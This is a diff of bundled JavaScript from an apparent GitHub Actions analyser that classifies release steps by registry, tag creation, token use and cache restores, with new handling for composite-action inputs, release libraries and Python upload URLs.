+/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(16915);
+/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(27499);
+/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(28154);
 /* harmony import */ var _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(30444);
 // What a step does, as far as releases are concerned: publish (to which registry, with a token or
 // through trusted publishing), create a tag or a GitHub Release (with which token), run tests,
@@ -2933,20 +3820,58 @@ function buildRunBy(step, scripts) {
     }
     return undefined;
 }
-/** A cache restored by the step: actions/cache, or a setup action's `cache:` input. */
+/**
+ * An input of a composite action's step as it runs: `${{ }}` that reads only `inputs.*` is
+ * evaluated with the `with:` of the step that uses the action (or the inputs' defaults). Text
+ * that reads anything else, or an input given as an expression, is returned as written.
+ */
+function actionInputValue(step, text) {
+    if (text === undefined || !step.via || !step.action || !text.includes('${{'))
+        return text;
+    const paths = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_4__/* .contextReferences */ .Q)(text);
+    if (paths.length === 0 || paths.some((path) => !/^inputs\.[\w-]+$/.test(path)))
+        return text;
+    const inputs = {};
+    for (const input of step.action.inputs) {
+        const given = step.via.with?.get(input.name)?.str() ?? input.node.get('default')?.str() ?? '';
+        inputs[input.name] = given;
+    }
+    const names = paths.map((path) => path.slice('inputs.'.length));
+    if (names.some((name) => inputs[name] === undefined || inputs[name].includes('${{')))
+        return text;
+    try {
+        return (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__/* .interpolate */ .GW)(text, { contexts: { inputs } });
+    }
+    catch {
+        return text;
+    }
+}
+/** A cache key that holds `github.run_id`: only a job of this very run can have saved it. */
+const RUN_ONLY_KEY = /\$\{\{[^}]*\bgithub\.run_id\b/;
+/**
+ * A cache restored by the step: actions/cache (unless every key and restore key holds
+ * `github.run_id`), or a setup action's `cache:` input.
+ */
 function cacheOf(step) {
-    const name = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_4__/* .actionName */ .aM)(step.uses);
-    if (name === 'actions/cache' || name === 'actions/cache/restore')
-        return step.usesNode;
+    const name = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_6__/* .actionName */ .aM)(step.uses);
+    if (name === 'actions/cache' || name === 'actions/cache/restore') {
+        const keys = [
+            actionInputValue(step, step.with?.get('key')?.str()) ?? '',
+            ...(actionInputValue(step, step.with?.get('restore-keys')?.str()) ?? '')
+                .split('\n')
+                .filter((line) => line.trim() !== ''),
+        ];
+        return keys.every((key) => RUN_ONLY_KEY.test(key)) ? undefined : step.usesNode;
+    }
     if (/^actions\/setup-(node|python|go|java|dotnet)$/.test(name) || name === 'pnpm/action-setup') {
         const cache = step.with?.get('cache');
-        const value = cache?.str()?.trim();
+        const value = actionInputValue(step, cache?.str())?.trim();
         if (cache && value && value !== 'false' && value !== "''")
             return cache;
     }
     if (name === 'astral-sh/setup-uv') {
         const cache = step.with?.get('enable-cache');
-        if (cache?.str()?.trim() === 'true')
+        if (actionInputValue(step, cache?.str())?.trim() === 'true')
             return cache;
     }
     return undefined;
@@ -3181,7 +4106,8 @@ function calledScript(words) {
     if (isRelativePath(first)) {
         if (CODE_FILE.test(first))
             return { path: normalise(first), kind: 'code' };
-        if (SHELL_FILE.test(first) || /^\.\.?\//.test(first))
+        // `./ship`, `scripts/publish`: an executable without an extension (read by its #! line).
+        if (SHELL_FILE.test(first) || /^\.\.?\//.test(first) || !/\.[^/]*$/.test(first))
             return { path: normalise(first), kind: 'shell' };
         return undefined;
     }
@@ -3206,10 +4132,12 @@ function normalise(path) {
 }
 /** The commands of a followed script, each with `path:line`. */
 function scriptCommands(script, text) {
-    return script.kind === 'shell'
+    return script.kind === 'shell' && !CODE_INTERPRETER.test(text)
         ? shellScriptCommands(script.path, text)
         : codeCommands(script.path, text);
 }
+/** A `#!` line naming Node, Deno, Bun or Python: the file is code, whatever its name. */
+const CODE_INTERPRETER = /^#![^\n]*\b(node|deno|bun|tsx|ts-node|zx|python[\d.]*)\b/;
 function shellScriptCommands(path, text) {
     const lines = text.split('\n');
     return (0,_shell_commands_js__WEBPACK_IMPORTED_MODULE_0__/* .commandsIn */ .G)(text).map((command) => {
@@ -3226,13 +4154,59 @@ const TOOL_AND_ARRAY = new RegExp(`(['"\`])(${TOOLS})\\1\\s*,\\s*\\[([^\\]]*)\\]
 const ARRAY_COMMAND = new RegExp(`\\[\\s*(?:sys\\.executable\\s*,\\s*(['"])-m\\1\\s*,\\s*)?(['"])(${TOOLS})\\2\\s*,([^\\]]*)\\]`, 'g');
 /** `execSync('npm publish')`, `` $`npm publish` ``, `os.system("twine upload dist/*")`. */
 const STRING_COMMAND = new RegExp(`(?:\\$|\\b(?:exec|execSync|execa|execaCommand|execaCommandSync|spawnSync|run|check_call|check_output|call|system|popen|sh|shell|command)\\s*\\(\\s*)(['"\`])((?:${TOOLS})\\s[^'"\`]*)\\1`, 'g');
+/**
+ * Release libraries called from code: the function that publishes, and the command it amounts to
+ * (`releasePublish()` of `nx/release` is `nx release publish`; `publish()` of
+ * `@vitejs/release-scripts` runs `pnpm publish`). `default` is the module's default export.
+ */
+const LIBRARY_CALLS = [
+    {
+        module: /^nx\/release(\/|$)/,
+        calls: { releasePublish: ['nx', 'release', 'publish'], release: ['nx', 'release'] },
+    },
+    { module: /^@vitejs\/release-scripts$/, calls: { publish: ['pnpm', 'publish'] } },
+    { module: /^semantic-release$/, calls: { default: ['semantic-release'] } },
+    { module: /^release-it$/, calls: { default: ['release-it'] } },
+];
+const IMPORT = /^\s*import\s+(?:(\w+)\s*,?\s*)?(?:\{([^}]*)\})?\s*from\s*(['"])([^'"]+)\3|(?:const|let|var)\s+(?:(\w+)|\{([^}]*)\})\s*=\s*(?:await\s+import|require)\(\s*(['"])([^'"]+)\7\s*\)/;
+/** Local names of the release library functions a file imports, to the command each amounts to. */
+function libraryFunctions(lines) {
+    const functions = new Map();
+    const joined = lines.join('\n').replace(/\{[^}]*\}/g, (names) => names.replace(/\n/g, ' '));
+    for (const line of joined.split('\n')) {
+        const match = IMPORT.exec(line);
+        if (!match)
+            continue;
+        const module = match[4] ?? match[8];
+        const library = LIBRARY_CALLS.find((each) => each.module.test(module));
+        if (library === undefined)
+            continue;
+        const fallback = match[1] ?? match[5];
+        if (fallback !== undefined && library.calls.default)
+            functions.set(fallback, library.calls.default);
+        for (const part of (match[2] ?? match[6] ?? '').split(',')) {
+            const [name, local] = part.split(/\s+as\s+|\s*:\s*/).map((word) => word.trim());
+            const words = name ? library.calls[name] : undefined;
+            if (words)
+                functions.set(local || name, words);
+        }
+    }
+    return functions;
+}
 function codeCommands(path, text) {
     const commands = [];
     const lines = text.split('\n');
+    const functions = libraryFunctions(lines);
+    const called = functions.size === 0
+        ? undefined
+        : new RegExp(`(?<![\\w.])(${[...functions.keys()].join('|')})\\s*\\(`, 'g');
     lines.forEach((line, index) => {
         const origin = `${path}:${index + 1}`;
         if (/^\s*(\/\/|#|\*)/.test(line))
             return;
+        if (called !== undefined && !IMPORT.test(line))
+            for (const match of line.matchAll(called))
+                commands.push({ text: line.trim(), words: functions.get(match[1]), origin });
         for (const match of line.matchAll(TOOL_AND_ARRAY))
             commands.push({ text: line.trim(), words: [match[2], ...quoted(match[3])], origin });
         for (const match of line.matchAll(ARRAY_COMMAND)) {
@@ -3419,6 +4393,22 @@ function releaseAction(name, kind, inputs, env = false) {
         token: env ? { inputs, env: ['GITHUB_TOKEN', 'GH_TOKEN'] } : { inputs },
     };
 }
+/**
+ * release-please-action: a GitHub Release (and its tag) unless `skip-github-release: true`, or
+ * v3's `command:` asks only for the release pull request.
+ */
+function releasePlease(name) {
+    return {
+        action: { name },
+        kind: ({ step }) => {
+            if (/^true$/i.test((0,src_step/* stepInput */.rj)(step, 'skip-github-release')?.trim() ?? ''))
+                return undefined;
+            const command = (0,src_step/* stepInput */.rj)(step, 'command')?.trim() ?? '';
+            return /^(release-pr|manifest-pr)$/.test(command) ? undefined : 'release';
+        },
+        token: { inputs: ['token'] },
+    };
+}
 const GITHUB_TAGGERS = [
     {
         tool: 'git tag',
@@ -3475,10 +4465,10 @@ const GITHUB_TAGGERS = [
     releaseAction('ncipollo/release-action', 'release', ['token']),
     releaseAction('actions/create-release', 'release', [], true),
     releaseAction('marvinpinto/action-automatic-releases', 'release', ['repo_token']),
-    releaseAction('googleapis/release-please-action', 'release', ['token']),
-    releaseAction('google-github-actions/release-please-action', 'release', ['token']),
+    releasePlease('googleapis/release-please-action'),
+    releasePlease('google-github-actions/release-please-action'),
     // release-please-action's first home, which GitHub still redirects to googleapis/.
-    releaseAction('googlecloudplatform/release-please-action', 'release', ['token']),
+    releasePlease('googlecloudplatform/release-please-action'),
     releaseAction('rickstaa/action-create-tag', 'tag', ['github_token']),
     releaseAction('mathieudutour/github-tag-action', 'tag', ['github_token']),
     releaseAction('anothrnick/github-tag-action', 'tag', [], true),
@@ -3623,7 +4613,12 @@ const NPM_TAGGERS = [
     },
     {
         tool: ({ tool }) => `lerna ${tool[1]}`,
-        command: { words: ['lerna', ['publish', 'version']] },
+        // A canary publishes only to the registry; `from-package` and `from-git` publish versions
+        // already bumped (and tagged); without git tagging or pushing no tag reaches the remote.
+        command: {
+            words: ['lerna', ['publish', 'version']],
+            unless: ['--canary', '-c', '--no-git-tag-version', '--no-push', 'from-package', 'from-git'],
+        },
         kind: 'tag',
         token: 'git-push',
     },
@@ -3867,7 +4862,7 @@ function registryOf({ entry, subject }) {
     if (source === 'npm-command')
         return npmCommandRegistry(subject);
     if (source === 'python-command')
-        return pythonCommandRegistry(subject.args);
+        return pythonCommandRegistry(subject.args, subject.step);
     return source;
 }
 function npmCommandRegistry({ words, context }) {
@@ -3879,11 +4874,25 @@ function npmCommandRegistry({ words, context }) {
         return 'other';
     return 'npm';
 }
-function pythonCommandRegistry(tool) {
+/** Variables that name the upload URL (or index) of twine, uv, pdm, hatch, flit and maturin. */
+const PYTHON_UPLOAD_URL_VARIABLES = [
+    'TWINE_REPOSITORY_URL',
+    'TWINE_REPOSITORY',
+    'UV_PUBLISH_URL',
+    'PDM_PUBLISH_REPO',
+    'HATCH_INDEX_REPO',
+    'FLIT_INDEX_URL',
+    'MATURIN_REPOSITORY_URL',
+    'MATURIN_REPOSITORY',
+];
+function pythonCommandRegistry(tool, step) {
     const text = tool.join(' ');
     if (/test\.pypi\.org|testpypi/i.test(text))
         return 'testpypi';
-    const url = /--(?:repository-url|publish-url|repository|index|index-url)[= ](\S+)/.exec(text)?.[1];
+    const url = /--(?:repository-url|publish-url|repository|index|index-url)[= ](\S+)/.exec(text)?.[1] ??
+        (0,src_step/* envValue */.$R)(step, ...PYTHON_UPLOAD_URL_VARIABLES)?.trim();
+    if (url && /test\.pypi\.org|^testpypi$/i.test(url))
+        return 'testpypi';
     if (url && /^https?:/.test(url) && (0,registries/* registryOfUrl */.S6)(url) !== 'pypi')
         return 'other';
     return 'pypi';
@@ -4255,6 +5264,8 @@ function commandWords(all) {
         else
             break;
     }
+    if (words.length > 0)
+        words = [programName(words[0]), ...words.slice(1)];
     while (words.length > 0 && CLOSERS.has(words[words.length - 1]))
         words = words.slice(0, -1);
     const last = words[words.length - 1];
@@ -4263,6 +5274,16 @@ function commandWords(all) {
     if (words.length === 1 && CLOSERS.has(words[0]))
         return [];
     return words;
+}
+/**
+ * The program a command word names: `${PREFIX}twine` (a variable holding a folder, empty or
+ * `venv/bin/`), `.venv/bin/twine` and `node_modules/.bin/changeset` are the program. A repository script (`./x.sh`, `scripts/x`) keeps
+ * its path.
+ */
+function programName(word) {
+    const unprefixed = word.replace(/^\$(\{[A-Za-z_]\w*\}|[A-Za-z_]\w*(?=\/))\/?(?=[\w.])/, '');
+    const inBin = /^(?:\.?v?env\/bin|node_modules\/\.bin)\/([\w.-]+)$/.exec(unprefixed);
+    return inBin ? inBin[1] : unprefixed;
 }
 function stripComment(line) {
     let quote;
